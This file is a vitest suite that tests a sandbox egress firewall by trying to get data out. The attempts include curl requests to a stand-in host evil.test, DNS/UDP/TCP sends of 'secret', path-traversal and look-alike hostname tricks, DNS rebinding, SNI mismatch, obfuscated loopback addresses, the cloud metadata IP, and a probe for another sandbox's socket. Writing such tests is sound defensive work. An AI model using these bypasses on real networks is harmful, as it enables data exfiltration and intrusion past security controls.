import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'

import {
  type BoxBehindFirewall,
  openBoxBehindFirewall,
} from '../testing/open-box-behind-firewall.ts'
import { type Site, startSite } from '../testing/start-site.ts'

// What is in the box wants out, with the firewall as its only way. The site stands for the whole internet: it
// answers for every name, so whatever reaches it has got out.

let site: Site
let behind: BoxBehindFirewall
let other: BoxBehindFirewall
let port: number
/** What the name `rebind.test` is, one answer after the other. */
const rebinding: string[] = []

beforeAll(async () => {
  site = await startSite({
    serve(request, response) {
      const to = URL.parse(request.url ?? '', 'http://x')?.searchParams.get('to')
      if (to) return response.writeHead(302, { location: to }).end()
      return response.end(`out ${request.url}`)
    },
  })
  port = site.ports.https
  const entries = ['allowed.test', `https://paths.test:${port}/team/`, 'rebind.test', '127.0.0.2']
  const resolve = (name: string): string =>
    name === 'rebind.test' ? (rebinding.shift() ?? '10.0.0.1') : '127.0.0.1'
  behind = await openBoxBehindFirewall(site, [...entries, '169.254.169.254', '[::1]'], { resolve })
  other = await openBoxBehindFirewall(site, ['other.test'])
})
beforeEach(() => {
  site.seen.length = 0
  behind.blocked.length = 0
})
afterAll(async () => {
  await behind?.[Symbol.asyncDispose]()
  await other?.[Symbol.asyncDispose]()
  site?.close()
})

/** What each address was answered with: a status, or 000 where there is none. */
async function ask(urls: readonly string[], options = ''): Promise<string[]> {
  const lines = urls.map(
    (url) =>
      `curl -s -m 20 ${options} -o /dev/null -w '%{http_connect}/%{http_code}\\n' '${url}' || true`,
  )
  return (await behind.sh(lines.join('\n'))).stdout.trim().split('\n')
}

it('reaches what is allowed', async () => {
  expect(await ask([`https://allowed.test:${port}/`])).toEqual(['200/200'])
  expect(site.seen).toHaveLength(1)
})

describe('data does not get out', () => {
  it('by DNS, by UDP, by IPv6 or by a connection of its own', async () => {
    const script = `
import socket, sys
def attempt(what, run):
    try:
        run(); print(what, 'OUT')
    except OSError as error:
        print(what, 'refused')
def udp(family, host, port):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'secret', (host, port))
attempt('dns', lambda: socket.getaddrinfo('secret.allowed.test', 443))
attempt('udp', lambda: udp(socket.AF_INET, '192.0.2.1', 53))
attempt('udp6', lambda: udp(socket.AF_INET6, '2001:db8::1', 53))
attempt('tcp', lambda: socket.create_connection(('192.0.2.1', 443), 2))
attempt('tcp6', lambda: socket.create_connection(('2001:db8::1', 443), 2))
attempt('host', lambda: socket.create_connection(('127.0.0.1', ${port}), 2))
`

    const { stdout } = await behind.sh(`/usr/bin/python3 -c "${script}"`)

    expect(stdout.trim().split('\n')).toEqual(
      ['dns', 'udp', 'udp6', 'tcp', 'tcp6', 'host'].map((what) => `${what} refused`),
    )
    expect(site.seen).toEqual([])
  })

  it('by the redirect of an allowed host', async () => {
    const url = `https://allowed.test:${port}/?to=https://evil.test:${port}/secret`

    await ask([url], '-L')

    expect(site.seen.map(({ host }) => host)).toEqual([`allowed.test:${port}`])
    expect(behind.blocked).toMatchObject([{ host: 'evil.test', rule: 'not_allowed' }])
  })

  it('by a name that looks like an allowed one', async () => {
    const names = [
      'evilallowed.test',
      'allowed.test.evil.test',
      'allowed.testing',
      'xn--llowed-6ib.test',
    ]
    const urls = [...names, 'allowed.test@evil.test'].map((name) => `https://${name}:${port}/`)

    expect(await ask(urls)).toEqual(urls.map(() => '403/000'))
    expect(site.seen).toEqual([])
  })

  it('by a path that only looks like one below', async () => {
    const paths = [
      'team/../secret',
      'team/%2e%2e/secret',
      'team/.%2E/secret',
      'team/..%2fsecret',
      'team/%252e%252e/secret',
      'team/..;/secret',
      '/team/',
      '//team/',
      'teams',
      'TEAM/',
    ]
    const urls = paths.map((path) => `https://paths.test:${port}/${path}`)

    expect(await ask(urls, '--path-as-is')).toEqual(urls.map(() => '200/403'))
    expect(site.seen).toEqual([])
  })

  it('by asking in TLS for another server than the tunnel was opened to', async () => {
    const to = `--connect-to evil.test:${port}:allowed.test:${port}`

    expect(await ask([`https://evil.test:${port}/secret`], to)).toEqual(['200/000'])
    expect(site.seen).toEqual([])
    expect(behind.blocked).toMatchObject([{ host: 'allowed.test', rule: 'other_server' }])
  })

  it('by speaking something other than TLS in a tunnel', async () => {
    const url = `http://allowed.test:${site.ports.http}/secret`

    expect(await ask([url], '--proxytunnel')).toEqual(['200/000'])
    expect(site.seen).toEqual([])
    expect(behind.blocked).toMatchObject([{ rule: 'not_tls' }])
  })

  it('by a name that is another address the second time', async () => {
    rebinding.push('127.0.0.1', '10.0.0.1')
    const url = `https://rebind.test:${port}/`

    expect(await ask([url, url])).toEqual(['200/200', '403/000'])
    expect(behind.blocked).toMatchObject([{ host: 'rebind.test', rule: 'private_address' }])
  })
})

it('nothing private to the host is reached, however its address is written', async () => {
  // The allowlist names them; only the operator's settings could let them pass.
  const hosts = [
    '127.0.0.2',
    '127.2',
    '2130706434',
    '0x7f000002',
    '0177.0.0.2',
    '169.254.169.254',
    '[::1]',
  ]
  const urls = hosts.map((host) => `https://${host}:${port}/`)

  // Some of them curl would not ask a proxy for.
  expect(await ask(urls, "--noproxy ''")).toEqual(urls.map(() => '403/000'))
  expect(site.seen).toEqual([])
  expect(new Set(behind.blocked.map(({ rule }) => rule))).toEqual(new Set(['private_address']))
})

it('the firewall of another sandbox is not there, by its port or by its socket', async () => {
  const url = `https://other.test:${port}/`
  const mine = await ask([url])
  const theirs = await other.sh(`curl -s -o /dev/null -w '%{http_code}' ${url}`)

  const script = `
    for path in ${other.socketPath} /tmp/*.sock /run/*.sock /run/errand/*.sock; do
      [ -S $path ] && echo found $path
    done
    curl -s -m 5 --unix-socket ${other.socketPath} http://other.test:${site.ports.http}/ || echo none`
  const { stdout } = await behind.sh(script)

  expect(theirs.stdout).toBe('200')
  expect(mine).toEqual(['403/000'])
  // Its own, of the way out it was given.
  expect(stdout.trim().split('\n')).toEqual(['found /run/errand/4011.sock', 'none'])
})
